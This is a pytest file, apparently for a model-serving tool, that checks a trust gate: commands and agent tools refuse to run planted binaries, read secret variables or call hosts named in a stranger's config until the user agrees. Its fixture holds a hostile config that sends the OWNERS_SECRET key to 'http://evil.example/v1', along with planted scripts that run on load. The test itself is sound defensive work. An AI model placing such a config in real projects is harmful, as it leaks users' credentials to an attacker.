"""A project of a stranger runs nothing, reads no variable and calls no host before a person has agreed to it."""

import io
import os
import re
import shlex
import socket
import stat
import sys
import typing
from concurrent.futures import ThreadPoolExecutor

import msgspec
import pytest
from tests.cli.test_documents import COMMANDS
from tests.conftest import STRANGERS

from freehold.agents.mcp.calling import AgentLimits, AgentServer, AskedCall
from freehold.agents.mcp.tools import TOOLS
from freehold.engines.llamacpp.server import LlamaOptions
from freehold.engines.ollama import OllamaOptions
from freehold.engines.remote import RemoteOptions
from freehold.engines.vllm.weights import VllmOptions
from freehold.errors import FreeholdError, UntrustedError
from freehold.evals.judging import JudgeOptions
from freehold.evals.scorers.code import CodeOptions
from freehold.evals.scorers.semantic import SemanticOptions
from freehold.progress import Silent
from freehold.types.config import ProjectConfig
from freehold.workflows import project as trust
from freehold.workflows.project import open_project

SECRETS = ("OWNERS_SECRET", "OTHER_SECRET", "HOOK_SECRET")
HOSTILE = """
[app]
name = "support"
[incumbent]
model = "gpt-4o"
base_url = "http://evil.example/v1"
api_key_env = "OWNERS_SECRET"
[task]
scorer = "code"
options = { callable = "score.py:grade" }
[[candidates]]
model = "their-model"
endpoint = "theirs"
[[endpoints]]
name = "theirs"
base_url = "http://127.0.0.1:9/v1"
api_key_env = "OTHER_SECRET"
[serve]
engine = "llamacpp"
options = { binary = "./llama-server" }
[watch]
webhook_env = "HOOK_SECRET"
"""


@pytest.fixture
def stranger(freehold, traffic, monkeypatch):
    """A folder with a store and a dataset, whose file was then changed by a stranger; what it touched is listed."""
    assert freehold("dataset", "build").code == 0
    (traffic / "freehold.toml").write_text(HOSTILE)
    (traffic / "llama-server").write_text("#!/bin/sh\ntouch ran\n")
    (traffic / "llama-server").chmod(0o755)
    (traffic / "score.py").write_text(
        "open('ran', 'w')\ndef grade(answer, reference, sample):\n    return 1\n"
    )
    monkeypatch.setattr(trust, "reach_of", STRANGERS)
    monkeypatch.setenv("FREEHOLD_OFFLINE", "true")
    monkeypatch.setenv("HOME", str(traffic / "home"))
    touched = []
    monkeypatch.setattr(sys, "stdin", io.StringIO())
    for name in SECRETS:
        monkeypatch.setenv(name, "http://127.0.0.1:9/secret")
    read = os._Environ.__getitem__

    def listed(environment, name):
        caller = sys._getframe(1).f_code
        if name in SECRETS and (caller.co_name == "get" or "_collections_abc" not in caller.co_filename):
            touched.append(name)  # by its name, and not with all others
        return read(environment, name)

    def refused(*words, **_):
        host, port, *_ = words[1] if isinstance(words[1], tuple) else words[1:]
        touched.append(f"{host}:{port}")
        raise OSError("no network here")

    monkeypatch.setattr(os._Environ, "__getitem__", listed)
    for name in ("connect", "connect_ex"):
        monkeypatch.setattr(socket.socket, name, refused)
    monkeypatch.setattr(socket, "getaddrinfo", lambda *words, **_: refused(None, *words))
    return touched


def agreed():
    """The user agrees to all that the file here says."""
    found = open_project(looks=True)
    trust.agree(found.config_path, trust.reach_of(found.config, found.config_path, found.settings).all)


def everything(annotation):
    """The tables of `freehold.toml`."""
    if isinstance(annotation, type) and issubclass(annotation, msgspec.Struct):
        yield annotation
        for field in msgspec.structs.fields(annotation):
            yield from everything(field.type)
    for part in typing.get_args(annotation):
        yield from everything(part)


def examples(words, command):
    lines = (command.help or "").replace("\\\n", " ").splitlines()
    return [
        shlex.split(line)[1:]
        for line in map(str.strip, lines)
        if line.startswith(f"freehold {words}") and not set(line) & set("|><")
    ]


APART = {"demo": "writes its own project", "engines install": "builds programs", "mcp": "is tried below"}
LOOKS = {
    "init", "status", "rescue", "report", "down", "tasks", "traces list", "traces show",
    "traces export",
    "store check", "store backup", "store restore", "forget", "scan", "license rule", "license comply", "license init",
    "license identify", "license bom", "assess", "fit", "cost", "catalog list", "catalog sync", "models list",
    "models rm", "models pull", "engines list", "engines rm",
    "compare", "power", "routes list", "routes set", "routes remove", "keys add", "keys limit", "keys list",
    "keys revoke", "keys accept", "rollout status", "rollout advance", "rollout promote", "rollout pause",
    "rollout rollback", "audit", "mcp confirm", "skill install", "settings",
}  # fmt: skip
"""Commands that ask for no trust: they read the file, the store or this machine, and do nothing of what it says."""
THIS_MACHINE = {"127.0.0.1:11434", "127.0.0.1:8420"}
"""Where an Ollama and a gateway of the user's own would be."""


def test_no_command_does_what_a_stranger_says_and_all_but_those_that_look_say_so(freehold, stranger, traffic):
    gated = set()
    for words in COMMANDS.keys() - APART:
        (traffic / "freehold.toml").write_text(HOSTILE)
        ran = freehold(*next(iter(examples(words, COMMANDS[words])), words.split()))
        assert not set(stranger) - THIS_MACHINE, words
        assert not (traffic / "ran").exists(), words
        if "is not trusted" in ran.err + ran.out:
            gated.add(words)
            assert ran.code == 2
    assert COMMANDS.keys() - gated == LOOKS | set(APART)


def test_the_traps_of_that_test_close(freehold, stranger, traffic):
    assert freehold("retirements", "--ask").code == 2
    assert not stranger
    agreed()
    freehold("retirements", "--ask")
    assert "OWNERS_SECRET" in stranger and len(stranger) > 1


def test_no_tool_of_an_agent_agrees_for_its_user(stranger, traffic):
    server = AgentServer(traffic, TOOLS, AgentLimits(calls_per_minute=1000))
    untrusted = set()
    for name, tool in TOOLS.items():
        if name.startswith("scan"):  # git lists the files
            continue
        for kind in tool.input_schema()["properties"].get("kind", {}).get("enum", [None]):
            given = {} if kind is None else {"kind": kind}
            try:
                server.run(AskedCall(tool, msgspec.convert(given, tool.arguments), ""), Silent())
            except UntrustedError:
                untrusted.add(kind or name)
            except (FreeholdError, msgspec.ValidationError):
                pass
            assert not stranger, name
    assert {"check_migration", "migrate", "dataset", "train", "start"} <= untrusted
    assert b"SECRET" not in trust._file().read_bytes()


@pytest.fixture
def own(freehold, project, monkeypatch):
    """A project of one address that was agreed to, and its file's other lines to be written."""
    monkeypatch.setattr(trust, "reach_of", STRANGERS)

    def written(more="", url="http://127.0.0.1:1"):
        text = f'[app]\nname = "a"\n[incumbent]\nmodel = "m"\nbase_url = "{url}"\n{more}'
        (project / "freehold.toml").write_text(text)

    written()
    agreed()
    return written


def test_only_what_is_new_is_asked_for(freehold, own):
    assert freehold("dataset", "show").code == 2 and "trusted" not in freehold("dataset", "show").err
    own("[task]\nmargin = 0.05\n[serve]\ncontext_tokens = 64\n")
    assert freehold("trust").code == 0
    own('api_key_env = "SOME_SECRET"\n[watch]\nwebhook_env = "HOOK"\n')
    assert freehold("trust", "--json").json["new"] == [
        "calls http://127.0.0.1:1 with the key in SOME_SECRET", "calls the address in HOOK",
    ]  # fmt: skip
    own('[watch]\nwebhook_env = "HOOK"\n')
    assert freehold("trust", "--json").json["new"] == ["calls the address in HOOK"]
    ran = freehold("retirements")
    assert ran.code == 2
    assert ran.err.splitlines() == [
        "error: freehold.toml is not trusted: it calls the address in HOOK", "hint: freehold trust shows it, and asks",
    ]  # fmt: skip


def test_a_program_in_the_folder_is_known_by_what_it_is(freehold, own, project):
    own('[serve]\nengine = "llamacpp"\noptions = { binary = "./server" }\n')
    (project / "server").write_text("one")
    one = freehold("trust", "--json").json
    (project / "server").write_text("two")
    two = freehold("trust", "--json").json
    assert one["hash"] != two["hash"] and one["new"][0].startswith("runs ./server (sha256 ")


def test_without_a_terminal_the_hash_agrees_and_a_pipe_does_not(freehold, own, monkeypatch):
    own('[watch]\nwebhook_env = "HOOK"\n')
    monkeypatch.setattr(sys, "stdin", io.StringIO("y\n" * 9))
    ran = freehold("trust")
    assert ran.code == 2 and "calls the address in HOOK" in ran.out
    name, _, value = ran.out.splitlines()[-1].partition("=")
    monkeypatch.setenv(name, f"{'0' * 32},{value}")
    assert freehold("trust").code == 0
    own('[watch]\nwebhook_env = "OTHER"\n')
    assert freehold("trust").code == 2


def test_what_is_agreed_to_at_once_is_all_kept(tmp_path, monkeypatch):
    monkeypatch.setattr(trust, "_file", lambda: tmp_path / "state" / "trust.json")
    with ThreadPoolExecutor(8) as pool:
        list(pool.map(lambda n: trust.agree(tmp_path / "freehold.toml", (f"calls {n}",)), range(40)))
    assert len(trust._agreed()) == 40


@pytest.mark.parametrize("answer", ["y", "n"])
def test_a_command_asks_on_a_terminal_and_goes_on(freehold, own, project, monkeypatch, answer):
    own('[watch]\nwebhook_env = "HOOK"\n')
    typed = io.StringIO(f"{answer}\n")
    for name, stream in (("stdin", typed), ("stderr", sys.stderr)):
        monkeypatch.setattr(sys, name, stream)
        monkeypatch.setattr(stream, "isatty", lambda: True)
    ran = freehold("dataset", "show")
    assert ("is not trusted: it" in ran.err) == (answer == "n")
    assert freehold("trust", "--json").json["new"] == ([] if answer == "y" else ["calls the address in HOOK"])
    if answer == "y":
        assert stat.S_IMODE(trust._file().stat().st_mode) == 0o600 and project not in trust._file().parents


def test_a_file_that_only_the_administrator_changes_is_agreed_to(freehold, own, project, monkeypatch):
    own('[watch]\nwebhook_env = "HOOK"\n')
    monkeypatch.setattr(os, "access", lambda path, mode: False)
    assert freehold("trust").code == (0 if project.stat().st_uid == 0 else 2)
    monkeypatch.setattr(os, "access", lambda path, mode: path == project)
    assert freehold("trust").code == 2


def test_every_option_that_names_a_program_a_variable_or_a_host_is_in_the_list():
    kinds = [one for one in everything(ProjectConfig) if issubclass(one, msgspec.Struct)]
    kinds += [
        LlamaOptions,
        VllmOptions,
        RemoteOptions,
        OllamaOptions,
        CodeOptions,
        JudgeOptions,
        SemanticOptions,
    ]
    named = {
        field.name
        for kind in kinds
        for field in msgspec.structs.fields(kind)
        if re.search(
            r"url|_env|address|binary|python|callable|command|program|credential|forward|webhook", field.name
        )
    }
    assert named == {
        "base_url", "api_key_env", "credentials", "forward_client_key", "binary", "python", "callable",
        "webhook_env",
    }  # fmt: skip
